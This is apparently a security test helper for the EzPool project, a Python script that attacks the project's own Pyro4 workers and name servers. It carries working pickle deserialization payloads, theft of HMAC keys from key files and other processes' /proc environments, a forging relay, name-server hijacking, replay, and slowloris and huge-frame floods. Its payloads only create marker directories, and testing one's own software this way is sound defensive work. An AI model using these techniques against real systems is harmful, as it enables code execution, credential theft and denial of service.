"""Attacks on EzPool workers, clients and name servers, as another local user would make them.

``tests/test_attacks.py`` runs this file by path, as uid 65534 (``setpriv``), with
``sys.executable``. It imports Pyro4, pickle and the standard library, never ezpool:
it knows no secret but what it can steal (and it tries). Subcommands::

    call URI --markers DIR [--wait-up S] [--steal PATH]...
        call a worker's methods with pickle payloads: Pyro4's pickle serializer
        (in the handshake and in the arguments), marshal carrying pickle bytes in
        ``run_chunk``, no key, and every key it can steal
    fake-server --port P --mode MODE --markers DIR [--serves NAME] [--lifetime S] [--upstream PORT]
        a keyless Pyro4 "worker" or "name server" that answers with payloads
        (MODE: handshake, refusal, result, embedded, relay; see ``_FakeConnection``
        and ``_Relay``: relay passes everything to the real worker at ``--upstream``
        but answers ``run_chunk`` itself, with a payload)
    ns-attack NS NAME EVIL_URI [--steal PATH]...
        overwrite, remove or add names at a name server, with no key and stolen keys
    replay HOST:PORT FILE... [--look-for TEXT]...
        send each recorded connection's bytes again, byte for byte, on a connection of its own
        (and say whether what came back holds each TEXT)
    flood HOST:PORT [--slow N] [--silent N] [--tls-slow N] [--interval S] [--huge N] [--frame-bytes B]
          [--duration S]
        slowloris connections (Pyro4 bytes, nothing at all, or a TLS ClientHello, a byte
        every interval) and frames announcing a huge size, until SIGTERM
    probe HOST:PORT OBJECT --save FILE
        talk to a server without the key every way a peer can, and save all it answers

Each outcome is one JSON line on stdout: ``{"kind", "name", "ok", "detail"}``. A
line of kind ``attack`` with ``ok`` true means that attack got through; ``info``
lines only describe. A payload, when a victim unpickles it, creates
``DIR/<attack name>`` (the attacker's proof of success), as the victim.
"""

from __future__ import annotations

import argparse
import contextlib
import errno
import json
import marshal
import os
import pickle
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from pathlib import Path
from typing import Any, Callable, Optional

import Pyro4
import Pyro4.constants
import Pyro4.errors
import Pyro4.message
import Pyro4.util

#: Seconds any single Pyro4 call of the attacker may take.
CALL_TIMEOUT = 10.0
#: Keys guessed from other processes' command lines: at most this many are tried.
MAX_CANDIDATE_KEYS = 64
#: The serializer id of pickle in the Pyro4 wire protocol (never changes).
PICKLE_ID = Pyro4.util.PickleSerializer.serializer_id
MARSHAL_ID = Pyro4.util.MarshalSerializer.serializer_id

_print_lock = threading.Lock()


def report(kind: str, name: str, ok: bool, detail: Any = "") -> None:
    line = json.dumps({"kind": kind, "name": name, "ok": bool(ok), "detail": str(detail)[:500]})
    with _print_lock:
        print(line, flush=True)


def log(text: str) -> None:
    print(f"attacker[{os.getpid()}]: {text}", file=sys.stderr, flush=True)


class Payload:
    """Unpickling this creates the directory ``path`` as whoever unpickles it: the attacker's proof.

    (``os.mkdir`` rather than ``open``: it leaves no open file behind in the victim.)
    """

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return (os.mkdir, (self.path,))


def payload(markers: str, name: str) -> Payload:
    return Payload(os.path.join(markers, name))


def payload_bytes(markers: str, name: str) -> bytes:
    return pickle.dumps(payload(markers, name), protocol=2)


def attempt(name: str, call: Callable[[], Any]) -> Any:
    """Run one attack; report whether it got through (an exception means it did not)."""
    try:
        value = call()
    except Exception as exc:
        report("attack", name, False, f"{type(exc).__name__}: {exc}")
        return None
    report("attack", name, True, repr(value))
    return value


def proxy(uri: str, serializer: str = "marshal", key: Optional[bytes] = None, handshake: Any = None) -> Any:
    made = Pyro4.Proxy(uri)
    made._pyroSerializer = serializer
    made._pyroHmacKey = key
    made._pyroTimeout = CALL_TIMEOUT
    if handshake is not None:
        made._pyroHandshake = handshake
    return made


def invoke(uri: str, method: str, *args: Any, **settings: Any) -> Any:
    made = proxy(uri, **settings)
    try:
        return getattr(made, method)(*args)
    finally:
        made._pyroRelease()


def wait_up(host: str, port: int, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while True:
        try:
            socket.create_connection((host, port), timeout=1).close()
            return
        except OSError:
            if time.monotonic() > deadline:
                raise SystemExit(f"nothing listens on {host}:{port} after {seconds} s") from None
            time.sleep(0.05)


# --- stealing keys --------------------------------------------------------------------


def steal_keys(paths: list[str]) -> list[bytes]:
    """Every key this user can get: key files, then other processes' command lines and environments.

    Reading a key file or another user's environment is itself a breach (an
    ``attack`` line that got through); command lines are public, so each of their
    words is only a guess, tried as a key by the caller.
    """
    keys: list[bytes] = []
    for path in paths:
        try:
            data = Path(path).read_bytes().strip()
        except OSError as exc:
            report("attack", f"read key file {path}", False, f"{type(exc).__name__}: {exc}")
            continue
        report("attack", f"read key file {path}", True, f"{len(data)} bytes")
        keys.append(data)
    guesses: list[bytes] = []
    me = os.getuid()
    for entry in sorted(Path("/proc").iterdir(), key=lambda p: p.name):
        if not entry.name.isdigit():
            continue
        try:
            if entry.stat().st_uid == me:
                continue
            words = entry.joinpath("cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if not any(b"ezpool" in word or b"Pyro4" in word for word in words):
            continue
        for word in words:
            for guess in (word, word.partition(b"=")[2]):
                if len(guess) >= 8 and guess not in guesses:
                    guesses.append(guess)
        try:
            environ = entry.joinpath("environ").read_bytes()
        except OSError:
            continue
        report("attack", f"read environment of pid {entry.name}", True, f"{len(environ)} bytes")
        for item in environ.split(b"\0"):
            name, _, value = item.partition(b"=")
            if b"HMAC" in name or b"KEY" in name:
                keys.append(value)
    report("info", "guessed keys", True, f"{len(guesses)} words from command lines")
    return keys + guesses[:MAX_CANDIDATE_KEYS]


# --- call: attack a worker --------------------------------------------------------------


def cmd_call(args: argparse.Namespace) -> int:
    uri = Pyro4.URI(args.uri)
    if args.wait_up:
        wait_up(uri.host, uri.port, args.wait_up)
    markers = args.markers
    # Pyro4's own pickle serializer: the daemon must not unpickle the handshake or the arguments.
    attempt("pickle-handshake", lambda: invoke(
        args.uri, "ping", serializer="pickle", handshake=payload(markers, "pickle-handshake")))
    attempt("pickle-args", lambda: invoke(
        args.uri, "run_chunk", payload(markers, "pickle-args-identity"), 0, 1,
        [payload(markers, "pickle-args")], None, serializer="pickle"))
    # marshal, the serializer EzPool uses, carrying pickle bytes where tasks travel.
    identity = attempt("marshal-hello", lambda: invoke(args.uri, "hello"))
    identity = identity.get("identity", "0" * 32) if isinstance(identity, dict) else "0" * 32
    attempt("marshal-run_chunk", lambda: invoke(
        args.uri, "run_chunk", identity, 0, 1, [payload_bytes(markers, "marshal-run_chunk")], None))
    attempt("marshal-run_chunk-any-identity", lambda: invoke(
        args.uri, "run_chunk", "0" * 32, 0, 1, [payload_bytes(markers, "marshal-run_chunk-any")], None))
    for number, key in enumerate(steal_keys(args.steal)):
        name = f"stolen-key-{number}"
        got = attempt(f"{name}-hello", lambda key=key: invoke(args.uri, "hello", key=key))
        who = got.get("identity", "0" * 32) if isinstance(got, dict) else "0" * 32
        if got is not None:  # only a key that works is worth a payload
            attempt(f"{name}-run_chunk", lambda key=key, who=who, name=name: invoke(
                args.uri, "run_chunk", who, 0, 1, [payload_bytes(markers, name)], None, key=key))
    return 0


# --- fake-server: a keyless worker or name server that answers with payloads ------------

#: What the fake claims to expose (Pyro4 metadata).
_METHODS = ["hello", "describe", "ping", "busy", "run_chunk", "list", "lookup", "register", "remove",
            "set_metadata", "get_metadata"]
_META = {"methods": _METHODS, "oneway": [], "attrs": []}
_IDENTITY = "f" * 32


class _FakeConnection:
    """One victim connection, answered as ``mode`` says.

    ``handshake``: the connect is accepted with a pickle-serialized answer holding a payload.
    ``refusal``: the connect is refused with a pickle-serialized reason holding a payload.
    ``result``: a normal (marshal) connect, then every call answered with a pickled payload.
    ``embedded``: marshal throughout, answering like an EzPool worker, except that
    ``run_chunk`` returns ``("ok", <pickle bytes of a payload>)``.
    """

    def __init__(self, sock: socket.socket, mode: str, markers: str, serves: str) -> None:
        self.sock, self.mode, self.markers, self.serves = sock, mode, markers, serves

    def serve(self) -> None:
        with contextlib.closing(self.sock):
            self.sock.settimeout(CALL_TIMEOUT)
            while True:
                message = self._receive()
                if message is None:
                    return
                reply = self._answer(*message)
                self.sock.sendall(reply.to_bytes())
                if reply.type == Pyro4.message.MSG_CONNECTFAIL:
                    return

    def _receive(self) -> Optional[tuple[Any, bytes]]:
        header = self._read(Pyro4.message.Message.header_size)
        if header is None:
            return None
        message = Pyro4.message.Message.from_header(header)
        if message.annotations_size + message.data_size > 64 << 20:
            return None
        if self._read(message.annotations_size) is None:
            return None
        data = self._read(message.data_size)
        return None if data is None else (message, data)

    def _read(self, size: int) -> Optional[bytes]:
        parts, got = [], 0
        while got < size:
            try:
                part = self.sock.recv(min(size - got, 1 << 16))
            except OSError:
                return None
            if not part:
                return None
            parts.append(part)
            got += len(part)
        return b"".join(parts)

    def _pickled(self, name: str, kind: int, seq: int, flags: int = 0) -> Any:
        return Pyro4.message.Message(kind, payload_bytes(self.markers, name), PICKLE_ID, flags, seq)

    def _answer(self, message: Any, data: bytes) -> Any:
        Message, seq = Pyro4.message.Message, message.seq
        if message.type == Pyro4.message.MSG_CONNECT:
            log(f"connect from a victim (mode {self.mode})")
            if self.mode == "handshake":
                return self._pickled("fake-handshake", Pyro4.message.MSG_CONNECTOK, seq)
            if self.mode == "refusal":
                return self._pickled("fake-refusal", Pyro4.message.MSG_CONNECTFAIL, seq)
            if message.flags & Pyro4.message.FLAGS_META_ON_CONNECT:
                answer, flags = {"handshake": "hello", "meta": _META}, Pyro4.message.FLAGS_META_ON_CONNECT
            else:
                answer, flags = "hello", 0
            return Message(Pyro4.message.MSG_CONNECTOK, marshal.dumps(answer), MARSHAL_ID, flags, seq)
        if self.mode != "embedded" or message.serializer_id != MARSHAL_ID:
            return self._pickled(f"fake-{self.mode}", Pyro4.message.MSG_RESULT, seq)
        method = marshal.loads(data)[1]
        log(f"call {method}")
        answers = {
            "hello": {"identity": _IDENTITY, "serves": self.serves, "restarting": False, "pid": 1,
                      "host": "fake", "python": "3", "ezpool": "0.1.0", "platform": "linux"},
            "describe": self.serves,
            "ping": (_IDENTITY, False),
            "busy": False,
            "run_chunk": ("ok", payload_bytes(self.markers, "fake-embedded")),
            "get_metadata": _META,
            "list": {},
            "lookup": "PYRO:worker@127.0.0.1:1",
        }
        return Message(Pyro4.message.MSG_RESULT, marshal.dumps(answers.get(method)), MARSHAL_ID, 0, seq)


class _Relay:
    """One victim connection passed on to the real worker at ``upstream``, message by
    message, so that the victim authenticates with the real worker and checks it;
    but a ``run_chunk`` call is not passed on: it is answered here, with
    ``("ok", <pickle bytes of a payload>)`` signed with the last signature the real
    worker sent (the attacker has no key to sign it with)."""

    def __init__(self, sock: socket.socket, upstream: int, markers: str) -> None:
        self.victim, self.markers = sock, markers
        self.upstream = socket.create_connection(("127.0.0.1", upstream), timeout=CALL_TIMEOUT)
        self.proof = b"\0" * 32

    def serve(self) -> None:
        with contextlib.closing(self.victim), contextlib.closing(self.upstream):
            self.victim.settimeout(CALL_TIMEOUT)
            while True:
                message = _read_message(self.victim)
                if message is None:
                    return
                header, data, raw = message
                if self._is_run_chunk(header, data):
                    report("info", "forged run_chunk reply", True, f"seq {header.seq}")
                    answer = (("ok", payload_bytes(self.markers, "relay-run_chunk")), self.proof)
                    forged = Pyro4.message.Message(Pyro4.message.MSG_RESULT, marshal.dumps(answer),
                                                   MARSHAL_ID, 0, header.seq)
                    self.victim.sendall(forged.to_bytes())
                    continue
                self.upstream.sendall(raw)
                reply = _read_message(self.upstream)
                if reply is None:
                    return
                self._remember(reply[0], reply[1])
                self.victim.sendall(reply[2])

    @staticmethod
    def _is_run_chunk(header: Any, data: bytes) -> bool:
        if header.type != Pyro4.message.MSG_INVOKE or header.serializer_id != MARSHAL_ID:
            return False
        try:
            _, method, args, _ = marshal.loads(data)
        except Exception:
            return False
        return method == "call" and bool(args) and args[0] == "run_chunk"

    def _remember(self, header: Any, data: bytes) -> None:
        """Keep the real worker's last signature, to sign the forged reply with."""
        if header.type != Pyro4.message.MSG_RESULT or header.serializer_id != MARSHAL_ID:
            return
        with contextlib.suppress(Exception):
            answer = marshal.loads(data)
            if isinstance(answer, (list, tuple)) and len(answer) == 2 and isinstance(answer[1], bytes):
                self.proof = answer[1]


def _read_message(sock: socket.socket) -> Optional[tuple[Any, bytes, bytes]]:
    """One Pyro4 message from ``sock``: its header (a ``Message`` without data), its data,
    and all its bytes as they came; ``None`` when the peer closed."""
    reader = _FakeConnection(sock, "", "", "")
    header = reader._read(Pyro4.message.Message.header_size)
    if header is None:
        return None
    message = Pyro4.message.Message.from_header(header)
    if message.annotations_size + message.data_size > 64 << 20:
        return None
    rest = reader._read(message.annotations_size + message.data_size)
    if rest is None:
        return None
    return message, rest[message.annotations_size:], header + rest


def cmd_fake_server(args: argparse.Namespace) -> int:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", args.port))
    server.listen(64)
    server.settimeout(0.2)
    report("info", "listening", True, args.port)
    deadline = time.monotonic() + args.lifetime
    while time.monotonic() < deadline:
        try:
            sock, _ = server.accept()
        except socket.timeout:
            continue
        if args.mode == "relay":
            try:
                connection: Any = _Relay(sock, args.upstream, args.markers)
            except OSError as exc:
                log(f"cannot reach the real worker: {exc}")
                sock.close()
                continue
        else:
            connection = _FakeConnection(sock, args.mode, args.markers, args.serves)
        threading.Thread(target=_logged(connection.serve), daemon=True).start()
    return 0


def _logged(function: Callable[[], None]) -> Callable[[], None]:
    def run() -> None:
        try:
            function()
        except Exception as exc:
            log(f"{type(exc).__name__}: {exc}")

    return run


# --- ns-attack: take over names at a name server ---------------------------------------


def cmd_ns_attack(args: argparse.Namespace) -> int:
    host, _, port = args.ns.rpartition(":")
    uri = f"PYRO:{Pyro4.constants.NAMESERVER_NAME}@{host}:{port}"
    intruder = "ezpool.intruder.127.0.0.1.1"
    keys: list[Optional[bytes]] = [None, *steal_keys(args.steal)]
    for number, key in enumerate(keys):
        label = "no-key" if key is None else f"stolen-key-{number}"
        for serializer in ("marshal", "serpent", "json", "pickle"):
            settings = {"serializer": serializer, "key": key}
            attempt(f"{label}-{serializer}-register-over", lambda s=settings: invoke(
                uri, "register", args.name, args.evil_uri, False, **s))
            attempt(f"{label}-{serializer}-register-new", lambda s=settings: invoke(
                uri, "register", intruder, args.evil_uri, False, **s))
            attempt(f"{label}-{serializer}-remove", lambda s=settings: invoke(uri, "remove", args.name, **s))
            if key is not None:
                break  # a stolen key gets one try with each call; no need for every serializer
    return 0


# --- replay: send recorded connections again, byte for byte ------------------------------


def cmd_replay(args: argparse.Namespace) -> int:
    host, _, port = args.address.rpartition(":")
    for path in args.files:
        data = Path(path).read_bytes()
        received, closed, got = 0, False, bytearray()
        try:
            with socket.create_connection((host, int(port)), timeout=CALL_TIMEOUT) as sock:
                sock.sendall(data)
                sock.settimeout(args.idle)
                deadline = time.monotonic() + args.patience
                while time.monotonic() < deadline:
                    try:
                        part = sock.recv(1 << 16)
                    except socket.timeout:
                        break
                    if not part:
                        closed = True
                        break
                    received += len(part)
                    got += part
        except OSError as exc:
            report("info", f"replay {Path(path).name}", False, f"{type(exc).__name__}: {exc}")
            continue
        holds = "".join(f", holds {text!r}: {text.encode() in got}" for text in args.look_for)
        report("info", f"replay {Path(path).name}", True,
               f"sent {len(data)} bytes, got {received} back, closed by the worker: {closed}{holds}")
    return 0


# --- flood: slowloris and huge frames ----------------------------------------------------


def frame_header(data_size: int, serializer_id: int = MARSHAL_ID, seq: int = 0) -> bytes:
    """A valid Pyro4 header of a connect message that announces ``data_size`` bytes of data."""
    kind, flags, annotations = Pyro4.message.MSG_CONNECT, 0, 0
    version = Pyro4.constants.PROTOCOL_VERSION
    checksum = (kind + version + data_size + annotations + serializer_id + flags + seq
                + Pyro4.message.Message.checksum_magic) & 0xFFFF
    return struct.pack(Pyro4.message.Message.header_format, b"PYRO", version, kind, flags, seq,
                       data_size, serializer_id, annotations, 0, checksum)


def client_hello() -> bytes:
    """The first bytes a TLS client sends: a ClientHello, as Python's ssl makes it."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="worker")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


class _Slot:
    """One flooding connection: ``slow`` (a byte of Pyro4 every interval), ``tls`` (a byte of
    a TLS ClientHello every interval, then nothing), ``silent`` (never a byte) or ``huge``
    (frames at full speed)."""

    def __init__(self, kind: str, offset: float = 0.0) -> None:
        self.kind = kind
        self.offset = offset  # seconds from connecting to the first byte: the slow ones are staggered
        self.sock: Optional[socket.socket] = None
        self.connected = False
        self.sent = 0
        self.due = 0.0


class _Flood:
    """Keeps ``slow`` connections sending a byte every ``interval`` s, and ``huge`` connections
    streaming frames that announce ``frame_bytes``; every connection that closes is opened again.

    Everything is non-blocking, in one thread. The huge connections are opened first,
    so that they are served before the slow ones take every place the server has.
    """

    def __init__(self, address: tuple[str, int], args: argparse.Namespace) -> None:
        self.address, self.interval = address, args.interval
        self.slow_stream = frame_header(1 << 20) + b"\0" * (1 << 20)
        self.huge_frame = len(frame_header(0)) + args.frame_bytes
        self.huge_header = frame_header(args.frame_bytes)
        self.client_hello = client_hello()
        slow = [_Slot("slow", args.interval * number / max(1, args.slow)) for number in range(args.slow)]
        tls = [_Slot("tls", args.interval * n / max(1, args.tls_slow)) for n in range(args.tls_slow)]
        silent = [_Slot("silent") for _ in range(args.silent)]
        self.slots = [_Slot("huge") for _ in range(args.huge)] + slow + tls + silent
        self.stats = {"connected": 0, "connect_errors": 0, "closed_by_server": 0, "slow_bytes": 0,
                      "huge_bytes": 0, "huge_frames": 0}
        self.zeros = memoryview(b"\0" * (1 << 18))

    def all_connected(self) -> bool:
        return all(slot.connected for slot in self.slots)

    def _open(self, slot: _Slot, now: float) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        error = sock.connect_ex(self.address)
        if error not in (0, errno.EINPROGRESS):
            sock.close()
            self.stats["connect_errors"] += 1
            slot.due = now + 0.5
            return
        slot.sock, slot.connected, slot.sent = sock, False, 0
        if error == 0:
            self._connected(slot, now)

    def _connected(self, slot: _Slot, now: float) -> None:
        slot.connected = True
        slot.due = now + slot.offset
        self.stats["connected"] += 1

    def _close(self, slot: _Slot, now: float, counter: str) -> None:
        if slot.sock is not None:
            with contextlib.suppress(OSError):
                slot.sock.close()
        slot.sock, slot.connected, slot.due = None, False, now + 0.2
        self.stats[counter] += 1

    def tick(self, wait: float) -> None:
        now = time.monotonic()
        for slot in self.slots:
            if slot.sock is None and now >= slot.due:
                self._open(slot, now)
        live = {slot.sock: slot for slot in self.slots if slot.sock is not None}
        reading = [sock for sock, slot in live.items() if slot.connected]
        writing = [sock for sock, slot in live.items()
                   if not slot.connected or (slot.kind == "huge" and slot.sent < self.huge_frame)]
        readable, writable = _wait(reading, writing, wait)
        now = time.monotonic()
        for sock in readable:  # what the server says is dropped; a hang-up is noted
            try:
                if not sock.recv(1 << 16):
                    self._close(live[sock], now, "closed_by_server")
            except BlockingIOError:
                pass
            except OSError:
                self._close(live[sock], now, "closed_by_server")
        for sock in writable:
            slot = live[sock]
            if slot.sock is None:
                continue
            if not slot.connected:
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    self._close(slot, now, "connect_errors")
                else:
                    self._connected(slot, now)
            elif slot.kind == "huge":
                self._push(slot, now)
        for slot in self.slots:
            if slot.kind in ("slow", "tls") and slot.connected and now >= slot.due:
                self._drip(slot, now)

    def _drip(self, slot: _Slot, now: float) -> None:
        if slot.kind == "tls":
            if slot.sent >= len(self.client_hello):
                slot.due = now + self.interval
                return
            byte = self.client_hello[slot.sent:slot.sent + 1]
        else:
            byte = self.slow_stream[slot.sent % len(self.slow_stream):][:1]
        try:
            slot.sock.send(byte)
        except BlockingIOError:
            return
        except OSError:
            self._close(slot, now, "closed_by_server")
            return
        slot.sent += 1
        slot.due = now + self.interval
        self.stats["slow_bytes"] += 1

    def _push(self, slot: _Slot, now: float) -> None:
        for _ in range(16):  # at most 4 MB a tick, so that the slow connections keep their pace
            if slot.sent >= self.huge_frame:
                return
            if slot.sent < len(self.huge_header):
                chunk: Any = self.huge_header[slot.sent:]
            else:
                chunk = self.zeros[: min(len(self.zeros), self.huge_frame - slot.sent)]
            try:
                sent = slot.sock.send(chunk)
            except BlockingIOError:
                return
            except OSError:
                self._close(slot, now, "closed_by_server")
                return
            slot.sent += sent
            self.stats["huge_bytes"] += sent
            if slot.sent >= self.huge_frame:
                self.stats["huge_frames"] += 1


def _wait(reading: list[socket.socket], writing: list[socket.socket],
          wait: float) -> tuple[list[socket.socket], list[socket.socket]]:
    """``select.select`` for any number of sockets (``select`` stops at 1,024 file numbers)."""
    poller = select.poll()
    by_fd = {}
    for sock in reading:
        poller.register(sock, select.POLLIN)
        by_fd[sock.fileno()] = sock
    for sock in writing:
        if sock.fileno() in by_fd:
            poller.modify(sock, select.POLLIN | select.POLLOUT)
        else:
            poller.register(sock, select.POLLOUT)
            by_fd[sock.fileno()] = sock
    readable, writable = [], []
    for fd, events in poller.poll(wait * 1000):
        if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
            readable.append(by_fd[fd])
        if events & select.POLLOUT:
            writable.append(by_fd[fd])
    return readable, writable


def cmd_flood(args: argparse.Namespace) -> int:
    host, _, port = args.address.rpartition(":")
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    flood = _Flood((host, int(port)), args)
    settle = time.monotonic() + 10.0
    while not flood.all_connected() and time.monotonic() < settle:
        flood.tick(0.05)
    report("info", "ready", True, json.dumps(flood.stats))
    deadline = time.monotonic() + args.duration
    while not stop.is_set() and time.monotonic() < deadline:
        flood.tick(0.02)
    report("info", "flood", True, json.dumps(flood.stats))
    return 0


# --- probe: everything a server answers a peer without the key ----------------------------


def _message(kind: int, body: Any, seq: int = 0, flags: int = 0, key: Optional[bytes] = None,
             serializer: int = MARSHAL_ID) -> bytes:
    data = body if isinstance(body, bytes) else marshal.dumps(body)
    return Pyro4.message.Message(kind, data, serializer, flags, seq, {}, key).to_bytes()


def _call(obj: str, method: str, args: list[Any], seq: int) -> bytes:
    return _message(Pyro4.message.MSG_INVOKE, (obj, method, args, {}), seq)


def _connect(obj: str, flags: int = 0, key: Optional[bytes] = None, serializer: int = MARSHAL_ID) -> bytes:
    body = {"handshake": "probe", "object": obj}
    data = pickle.dumps(body) if serializer == PICKLE_ID else marshal.dumps(body)
    return _message(Pyro4.message.MSG_CONNECT, data, flags=flags, key=key, serializer=serializer)


def _exchanges(obj: str) -> dict[str, list[bytes]]:
    """What a keyless peer sends, connection by connection: every message a server may answer."""
    mine = b"attacker-nonce16"
    auth = _call(obj, "auth", [mine, b"\0" * 32], 1)
    daemon = "Pyro.Daemon"
    return {
        "connect-then-wrong-mac": [_connect(obj), auth],
        "connect-then-empty-mac": [_connect(obj), _call(obj, "auth", [mine, b""], 1)],
        "connect-then-two-auths": [_connect(obj), auth, _call(obj, "auth", [mine, b"\1" * 32], 2)],
        "connect-signed-with-a-guess": [_connect(obj, key=b"a guess at the key!!")],
        "connect-with-metadata": [_connect(obj, flags=Pyro4.message.FLAGS_META_ON_CONNECT)],
        "connect-in-pickle": [_connect(obj, serializer=PICKLE_ID)],
        "call-before-auth": [_connect(obj), _call(obj, "call", ["hello", 1, b"\0" * 32, []], 1)],
        "unknown-method": [_connect(obj), _call(obj, "nothing", [], 1)],
        "ping": [_connect(obj), _message(Pyro4.message.MSG_PING, b"ping", 1)],
        "daemon-calls": [_connect(daemon), _call(daemon, "registered", [], 1),
                         _call(daemon, "get_metadata", [obj], 2), _call(daemon, "ping", [], 3)],
        "no-connect": [auth],
        "garbage": [b"GET / HTTP/1.0\r\n\r\n"],
    }


def cmd_probe(args: argparse.Namespace) -> int:
    """Send each exchange on a connection of its own, one message at a time, and keep
    every byte that comes back (until the server closes, or is silent for 2 s)."""
    host, _, port = args.address.rpartition(":")
    saved = []
    for name, messages in _exchanges(args.object).items():
        got = bytearray()
        try:
            with socket.create_connection((host, int(port)), timeout=CALL_TIMEOUT) as sock:
                sock.settimeout(2.0)
                for message in messages:
                    sock.sendall(message)
                    with contextlib.suppress(socket.timeout):
                        while True:
                            part = sock.recv(1 << 16)
                            if not part:
                                break
                            got += part
                            if len(part) < (1 << 16):
                                break
        except OSError as exc:
            log(f"{name}: {type(exc).__name__}: {exc}")
        saved.append({"exchange": name, "received": bytes(got).hex()})
        report("info", f"probe {name}", True, f"got {len(got)} bytes")
    Path(args.save).write_text(json.dumps(saved))
    return 0


# --- command line ------------------------------------------------------------------------


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="_attacker.py", description=__doc__.splitlines()[0])
    commands = parser.add_subparsers(dest="command", required=True)
    call = commands.add_parser("call")
    call.add_argument("uri")
    call.add_argument("--markers", required=True)
    call.add_argument("--wait-up", type=float, default=0.0)
    call.add_argument("--steal", action="append", default=[])
    fake = commands.add_parser("fake-server")
    fake.add_argument("--port", type=int, required=True)
    modes = ("handshake", "refusal", "result", "embedded", "relay")
    fake.add_argument("--mode", choices=modes, required=True)
    fake.add_argument("--upstream", type=int, help="relay: the port of the real worker")
    fake.add_argument("--markers", required=True)
    fake.add_argument("--serves", default="Napper")
    fake.add_argument("--lifetime", type=float, default=300.0)
    ns = commands.add_parser("ns-attack")
    ns.add_argument("ns")
    ns.add_argument("name")
    ns.add_argument("evil_uri")
    ns.add_argument("--steal", action="append", default=[])
    replay = commands.add_parser("replay")
    replay.add_argument("address")
    replay.add_argument("files", nargs="+")
    replay.add_argument("--idle", type=float, default=3.0, help="stop reading after this long without data")
    replay.add_argument("--patience", type=float, default=20.0, help="stop reading after this long")
    replay.add_argument("--look-for", action="append", default=[], help="say whether the answers hold this")
    flood = commands.add_parser("flood")
    flood.add_argument("address")
    flood.add_argument("--slow", type=int, default=300)
    flood.add_argument("--silent", type=int, default=0, help="connections that never send a byte")
    flood.add_argument("--tls-slow", type=int, default=0, help="connections sending a ClientHello slowly")
    flood.add_argument("--interval", type=float, default=3.0)
    flood.add_argument("--huge", type=int, default=2)
    flood.add_argument("--frame-bytes", type=int, default=400_000_000)
    flood.add_argument("--duration", type=float, default=150.0)
    probe = commands.add_parser("probe")
    probe.add_argument("address")
    probe.add_argument("object")
    probe.add_argument("--save", required=True)
    return parser


_COMMANDS = {"call": cmd_call, "fake-server": cmd_fake_server, "ns-attack": cmd_ns_attack,
             "replay": cmd_replay, "flood": cmd_flood, "probe": cmd_probe}


def main(argv: Optional[list[str]] = None) -> int:
    args = _parser().parse_args(argv)
    return _COMMANDS[args.command](args)


if __name__ == "__main__":
    sys.exit(main())
